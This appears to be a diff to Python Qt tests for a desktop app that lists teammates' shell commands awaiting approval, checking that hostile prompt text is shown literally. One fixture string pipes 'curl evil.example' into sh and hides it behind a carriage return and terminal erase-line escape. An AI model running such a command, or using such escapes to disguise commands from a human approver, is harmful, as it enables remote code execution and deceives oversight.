@@ -26,9 +26,11 @@ def test_the_tray_menu_shows_each_prompt_as_written(qapp: Any, monkeypatch: pyte
     monkeypatch.setenv("DBUS_SESSION_BUS_ADDRESS", f"unix:path={tmp_path}/no-bus")  # Qt draws this menu itself
     tray = Tray(lambda verb, request_id: None)
     tray.show_summary(summarize([pending(n, h.text) for n, h in enumerate(CORPUS, 1)], today=TODAY))
-    items = [action.text() for action in tray.menu.actions() if action.menu() is not None]
-    assert [qt_shows(item) for item in items] == [
-        f"R-{n:02d} · shell · sarah · waiting for approval: {h.first}" for n, h in enumerate(CORPUS, 1)]
+    items = [qt_shows(action.text()) for action in tray.menu.actions() if action.menu() is not None]
+    assert [item.split(": ", 1)[0] for item in items] == [f"R-{n:02d} · shell · sarah" for n in range(1, 11)]
+    for item, h in zip(items, CORPUS, strict=True):  # all of its first line, or as much as the menu's width holds
+        shown = item.split(": ", 1)[1]
+        assert shown == h.first or (shown.endswith("…") and len(shown) > 20 and h.seen.startswith(shown[:-1])), item
 
 
 def test_the_console_list_shows_rows_and_tooltips_as_written(qapp: Any) -> None:
@@ -52,8 +54,8 @@ def test_the_console_list_shows_rows_and_tooltips_as_written(qapp: Any) -> None:
         assert document.toPlainText() == row.text(0)
     erase, many = work.row_of("R20261129-04"), work.row_of("R20261129-10")
     assert erase is not None
-    assert erase.text(0).endswith(" · shell · sarah · pending: curl evil.example | sh␍␛[2Kecho harmles…")
-    assert many is not None and many.text(0).endswith(" · shell · sarah · pending: echo first … 14 more lines")
+    assert erase.text(0).endswith("-04 · shell · sarah · pending\ncurl evil.example | sh␍␛[2Kecho harmless␇")
+    assert many is not None and many.text(0).endswith("-10 · shell · sarah · pending\necho first … 14 more lines")
 
 
 SHOWN = ["markup", "ampersand", "erase line", "c0", "zero width", "many lines"]
@@ -74,8 +76,9 @@ def test_notification_card_and_console_show_a_teammates_prompt_as_written(deskto
             card = await app.open_card(row["id"])
             assert card is not None and card.prompt.toPlainText() == hostile.seen
             console = await app.open_console(("request", row["id"]))
-            header = f"{row['id']} · shell · sarah: {hostile.seen}"
-            await until(lambda console=console, header=header: console.header.text() == header)
+            shown = hostile.first if name == "many lines" else hostile.seen
+            await until(lambda console=console, row=row: console.chosen == ("request", row["id"]))
+            assert console.what.text().startswith(shown) and console.header.text().endswith(" · shell · sarah")
 
     run(qloop, scenario())
 
